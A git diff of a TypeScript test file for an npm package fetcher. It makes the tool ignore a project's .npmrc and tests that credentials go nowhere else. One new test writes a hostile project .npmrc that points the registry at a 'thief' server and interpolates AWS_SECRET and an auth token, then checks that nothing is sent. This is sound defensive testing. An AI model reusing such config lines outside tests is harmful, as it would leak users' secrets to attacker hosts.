@@ -45,13 +45,15 @@ test("a package comes from the registry that npm is set to, verified, and nothin
   expect(await newestVersion({ kind: "npm", name: "skills" }, machine.options)).toBe("2.0.0");
 });
 
-test("a scope's registry and its token come from the .npmrc files, and the token goes nowhere else", async () => {
+test("a scope's registry and its token come from the user's .npmrc, and the token goes nowhere else", async () => {
   const registry = await startRegistry();
   const machine = createMachine({ TOKEN: "s3cret" });
   const host = new URL(registry.origin).host;
-  for (const folder of [machine.cwd, machine.home]) mkdirSync(folder);
-  writeFileSync(path.join(machine.cwd, ".npmrc"), `@team:registry=${registry.origin}\n`);
-  writeFileSync(path.join(machine.home, ".npmrc"), `//${host}/:_authToken=\${TOKEN}\n`);
+  mkdirSync(machine.home);
+  writeFileSync(
+    path.join(machine.home, ".npmrc"),
+    `@team:registry=${registry.origin}\n//${host}/:_authToken=\${TOKEN}\n`,
+  );
   await machine.fetch("npm:@team/skills");
   expect(registry.requests.map(({ headers }) => headers.authorization)).toEqual([
     "Bearer s3cret",
@@ -61,6 +63,49 @@ test("a scope's registry and its token come from the .npmrc files, and the token
   registry.pages.set("/@team%2fskills", { redirect: `${other.origin}/steal` });
   expect(await refusalOf(machine.fetch("npm:@team/skills"))).toMatchObject({ reason: "other-origin" });
   expect(other.requests).toEqual([]);
+});
+
+test("a project's .npmrc sends no variable and no request to a host of its choice", async () => {
+  const registry = await startRegistry();
+  const thief = await startWebServer();
+  const machine = createMachine({
+    AWS_SECRET: "s3cret",
+    TOKEN: "t0ken",
+    npm_config_registry: registry.origin,
+  });
+  mkdirSync(machine.cwd);
+  const file = path.join(machine.cwd, ".npmrc");
+  const host = new URL(thief.origin).host;
+  writeFileSync(
+    file,
+    `registry=${thief.origin}/\${AWS_SECRET}/\n@team:registry=${thief.origin}\n//${host}/:_authToken=\${TOKEN}\n` +
+      `//${new URL(registry.origin).host}/:_authToken=\${TOKEN}\n`,
+  );
+  await machine.fetch("npm:skills");
+  await newestVersion({ kind: "npm", name: "@team/skills" }, machine.options);
+  expect(thief.requests).toEqual([]);
+  expect(registry.requests.map(({ headers }) => headers.authorization)).toEqual([
+    undefined,
+    undefined,
+    undefined,
+  ]);
+  const warned = machine.logged.filter((line) => line.startsWith(file));
+  expect(warned).toHaveLength(2);
+  expect(warned[0]).toContain(
+    `sets registry, //${new URL(registry.origin).host}/:_authToken, which is ignored`,
+  );
+  expect(warned[1]).toContain("sets registry, @team:registry, //");
+  expect(warned[0]).toContain(`copy it to ${path.join(machine.home, ".npmrc")}`);
+  expect(machine.logged.join("\n")).not.toMatch(/s3cret|t0ken/);
+});
+
+test("a project's .npmrc that says what is used anyway is no warning", async () => {
+  const registry = await startRegistry();
+  const machine = createMachine({ npm_config_registry: registry.origin });
+  mkdirSync(machine.cwd);
+  writeFileSync(path.join(machine.cwd, ".npmrc"), `registry=${registry.origin}/\nsave-exact=true\n`);
+  await machine.fetch("npm:skills");
+  expect(machine.logged).toEqual([]);
 });
 
 test.each<readonly [string, object, string, RegExp]>([
@@ -105,7 +150,7 @@ test("a mirror that passes on the public registry's addresses is asked for the s
   expect(registry.requests.map(({ url }) => url)).toEqual(["/skills", "/files/skills-2.0.0.tgz"]);
 });
 
-const NONE = { environment: {}, project: "", user: "" };
+const NONE = { environment: {}, user: "" };
 
 test.each([
   ["nothing is set", "a", NONE, "https://registry.npmjs.org/", undefined],
@@ -117,16 +162,9 @@ test.each([
     undefined,
   ],
   [
-    "the project's file before the user's",
+    "the environment before the user's file",
     "a",
-    { ...NONE, user: "registry=https://u.dev", project: "registry=https://p.dev" },
-    "https://p.dev/",
-    undefined,
-  ],
-  [
-    "the environment before both",
-    "a",
-    { ...NONE, environment: { NPM_CONFIG_REGISTRY: "https://e.dev" }, project: "registry=https://p.dev" },
+    { environment: { NPM_CONFIG_REGISTRY: "https://e.dev" }, user: "registry=https://u.dev" },
     "https://e.dev/",
     undefined,
   ],
